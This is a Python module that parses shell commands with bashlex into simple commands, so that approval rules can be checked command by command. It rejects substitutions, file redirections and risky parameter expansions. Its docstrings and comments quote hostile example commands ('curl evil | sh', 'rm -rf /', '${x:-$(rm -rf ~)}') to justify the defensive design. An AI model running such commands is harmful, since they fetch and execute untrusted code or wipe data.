"""A shell command as the simple commands it runs (SPEC §11), for matching approval rules
command by command: ``touch x; curl evil | sh`` is three commands, and a rule ``touch *``
allows it only if it matches all three.

The parser is ``bashlex``, a port of bash's own grammar: ``shlex`` splits words, but it knows
no newlines as separators, no subshells or ``{ …; }``, and it takes ``#`` inside a word as a
comment (``touch x#; rm -rf /`` would lose the ``rm``). No Django here: it is pure.
"""

from __future__ import annotations

import re

import bashlex
from bashlex import ast

# Redirections that only join descriptors (2>&1) or feed a word the parser has read (a
# here-string); every other one opens a file by name. A here-document is neither: bashlex keeps
# its body as raw text, and bash expands ``$(…)`` in it, so it is unreadable here.
DESCRIPTOR_ONLY = frozenset({">&", "<&"})
DATA_ONLY = frozenset({"<<<"})
SUBSTITUTIONS = frozenset({"commandsubstitution", "processsubstitution"})
HARMLESS_TARGETS = frozenset({"/dev/null"})
# A parameter expansion that only names a parameter ($HOME, ${HOME}, $1, $?). Any operator is
# unreadable: bashlex keeps ``${x:-$(rm -rf ~)}`` as one node with nothing under it, though
# bash runs the substitution, and ``${x@P}`` runs the prompt expansion of what x holds.
PLAIN_PARAMETER = re.compile(r"[A-Za-z_][A-Za-z0-9_]*|[0-9]+|[@*#?$!-]")


class Unreadable(Exception):
    """The command cannot be shown as plain simple commands: it never matches an allow."""


def simple_commands(text: str) -> list[str] | None:
    """The simple commands of ``text`` in order, each as its words (assignments first) joined
    by single spaces, quotes removed; None when the parser cannot read it, or it substitutes a
    command (``$(…)``, backticks, ``<(…)``), or redirects to or from a file other than
    ``/dev/null`` (the policy does not know the run's workspace, so no file redirection is
    taken as safe), or holds a here-document, or expands a parameter with an operator
    (``${x:-…}``, ``${x@P}``, ``${!x}``)."""
    try:
        trees = bashlex.parse(text)
    except Exception:  # bashlex raises its own errors and, on odd input, plain ones
        return None
    found: list[str] = []
    try:
        for tree in trees:
            _collect(tree, found)
    except Exception:  # Unreadable, or a node shape this bashlex did not promise: never allow
        return None
    return found or None


def _collect(node: ast.node, found: list[str]) -> None:
    if node.kind in SUBSTITUTIONS:
        raise Unreadable(node.kind)
    if node.kind == "parameter" and not PLAIN_PARAMETER.fullmatch(node.value):
        raise Unreadable(f"parameter expansion ${{{node.value}}}")
    if node.kind == "redirect":
        _check_redirect(node)
    if node.kind == "command":
        words = [p.word for p in node.parts if p.kind in ("assignment", "word")]
        if words:
            found.append(" ".join(words))
    for child in _children(node):
        _collect(child, found)


def _check_redirect(node: ast.node) -> None:
    if node.type in DESCRIPTOR_ONLY or node.type in DATA_ONLY:
        return
    target = getattr(node, "output", None)
    if isinstance(target, ast.node) and target.kind == "word" and target.word in HARMLESS_TARGETS:
        return
    raise Unreadable(f"redirection {node.type}")


def _children(node: ast.node):
    for attr in ("parts", "list"):
        yield from getattr(node, attr, None) or ()
    for attr in ("command", "output", "heredoc"):
        child = getattr(node, attr, None)
        if isinstance(child, ast.node):
            yield child
